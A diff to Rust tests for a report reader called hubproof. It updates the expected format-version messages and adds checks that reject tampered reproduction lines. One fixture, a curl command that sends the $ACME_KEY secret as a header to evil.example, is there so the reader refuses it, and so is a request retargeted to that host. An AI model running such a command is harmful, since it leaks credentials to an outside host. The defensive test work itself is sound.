@@ -54,8 +54,8 @@ fn a_file_of_something_else_says_what_it_is() {
 #[test]
 fn another_version_says_what_to_do() {
     assert_eq!(
-        fault(|json| json["version"] = json!(4)),
-        "it has version 4 of the format, and this hubproof reads version 3: read it with a newer hubproof"
+        fault(|json| json["version"] = json!(5)),
+        "it has version 5 of the format, and this hubproof reads version 4: read it with a newer hubproof"
     );
     let version_1 = fault(|json| {
         json["version"] = json!(1);
@@ -63,7 +63,7 @@ fn another_version_says_what_to_do() {
     });
     assert_eq!(
         version_1,
-        "it has version 1 of the format, and this hubproof reads version 3: repeat the run"
+        "it has version 1 of the format, and this hubproof reads version 4: repeat the run"
     );
     assert_eq!(
         fault(|json| json["version"] = json!("2")),
@@ -174,6 +174,29 @@ fn damage_is_told_with_its_place() {
     assert!(said.contains("duplicate field `seed`"), "{said}");
 }
 
+fn another_request(url: &str) -> Value {
+    json!({"method": "GET", "url": url, "headers": [], "body": null, "verbatim": false})
+}
+
+#[test]
+fn what_another_version_wrote_has_lines_of_this_one() {
+    let mut json: Value = serde_json::from_str(&text()).unwrap();
+    let reproduce = "/requirements/1/violations/0/reproduce";
+    let before = json.pointer(reproduce).unwrap().clone();
+    let lines = json.pointer_mut(reproduce).unwrap();
+    lines["run"] = json!("hubproof prove --id EXE-02");
+    lines["calls"] = json!(["wget"]);
+    assert!(Report::read(json.to_string()).is_err(), "this version writes no such lines");
+    json["tool"]["version"] = json!("0.0.9");
+    let read = Report::read(json.to_string()).unwrap();
+    assert_eq!(serde_json::to_value(&read).unwrap().pointer(reproduce), Some(&before));
+    // What the lines are made of is looked at all the same.
+    json.pointer_mut(reproduce).unwrap()["rounds"][0][0] =
+        json!({"number": 9_999, "request": another_request("https://evil.example/")});
+    let said = Report::read(json.to_string()).unwrap_err().to_string();
+    assert!(said.contains("is for another target"), "{said}");
+}
+
 #[test]
 fn what_contradicts_itself_is_told() {
     let violations = "/requirements/1/violations";
@@ -233,12 +256,47 @@ fn what_contradicts_itself_is_told() {
         (
             "/requirements/1/violations/0/reproduce/calls",
             json!([]),
-            "requirements[1].violations[0].reproduce.calls: there are calls unless",
+            "requirements[1].violations[0].reproduce: the lines are not those",
+        ),
+        (
+            "/requirements/1/violations/0/reproduce/calls/0",
+            json!("curl https://evil.example/ -H \"$ACME_KEY\""),
+            "requirements[1].violations[0].reproduce: the lines are not those",
+        ),
+        (
+            "/requirements/1/violations/0/reproduce/rounds",
+            json!([]),
+            "requirements[1].violations[0].reproduce.rounds: there are calls unless",
+        ),
+        (
+            "/requirements/1/violations/0/reproduce/rounds/0",
+            json!([]),
+            "requirements[1].violations[0].reproduce.rounds: there are calls unless",
+        ),
+        (
+            "/requirements/1/violations/0/reproduce/rounds/0/0/number",
+            json!(9_999),
+            "requirements[1].violations[0].reproduce.rounds: the request of exchange 9999 is not the one",
+        ),
+        (
+            "/requirements/1/violations/0/reproduce/rounds/0/0/request",
+            another_request("https://hub.example/api/v1/tools"),
+            "requirements[1].violations[0].reproduce.rounds: the request of exchange",
+        ),
+        (
+            "/requirements/1/violations/0/reproduce/rounds/0/0",
+            json!({"number": 9_999, "request": another_request("https://hub.example:444/api/v1/tools")}),
+            "requirements[1].violations[0].reproduce.rounds: the request of exchange 9999 is for another target",
+        ),
+        (
+            "/key_env",
+            json!("OTHER_KEY"),
+            "requirements[1].violations[0].reproduce: the lines are not those",
         ),
         (
             "/requirements/1/violations/0/reproduce/run_alone",
             json!("limit"),
-            "requirements[1].violations[0].reproduce.calls: there are calls unless",
+            "requirements[1].violations[0].reproduce.rounds: there are calls unless",
         ),
         (
             "/side_effects/created/0/fate",
